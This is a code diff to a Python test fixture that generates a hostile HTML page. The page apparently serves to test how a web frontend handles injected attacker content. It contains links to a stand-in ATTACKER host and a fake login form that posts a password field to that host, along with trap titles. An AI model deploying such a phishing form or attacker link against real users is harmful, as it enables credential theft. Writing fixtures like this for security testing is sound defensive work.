@@ -60,16 +60,19 @@ def page():
     assert {"o_cp_comments", "o_cp_widget_1"} <= ids
     assert {"data-slices", "data-name"} <= data
     values = "".join(f' {name}="{escape(_value(name))}"' for name in sorted(data))
+    own = sorted(name for name in classes if name.startswith("o_"))
     parts = [
-        f'<{tag} class="{name}" href="{ATTACKER}/{name}.html" title="{TRAP}"{values}>'
-        f'<a href="{ATTACKER}/{name}.html">Show</a></{tag}>'
-        for name in sorted(classes)
-        for tag in ("div", "a")
+        f'<div class="{name}" title="{TRAP}"{values}><a class="{name}"'
+        f' href="{ATTACKER}/{name}.html">Show</a></div>'
+        for name in own
     ]
+    parts += [f'<p class="{one}">{one}</p>' for one in sorted(classes - {*own})]
     parts += [f'<p id="{name}" name="{name}">{name}</p>' for name in sorted(ids)]
     for name in ("o_cp_slow", "o_cp_chart", "o_cp_faq_read", "o_cp_form"):
         inner = f'<section class="{name}" id="x"{values}>{_form(name)}</section>'
-        parts.append(f'<div id="wrap"><div class="o_cp_home container">{inner}</div></div>')
+        parts.append(
+            f'<div id="wrap"><div class="o_cp_home container">{inner}</div></div>'
+        )
     return "".join([*parts, *_overlays(), *_scripts()])
 
 
@@ -87,7 +90,7 @@ def _form(name):
         f'<a href="{ATTACKER}/{name}.html">Show</a>'
         f'<form action="{ATTACKER}/form" method="post"><input name="_prints">'
         '<input type="password" name="password"><button>Log in</button></form>'
-        '<details open><summary>x</summary></details><ul></ul>'
+        "<details open><summary>x</summary></details><ul></ul>"
     )
 
 
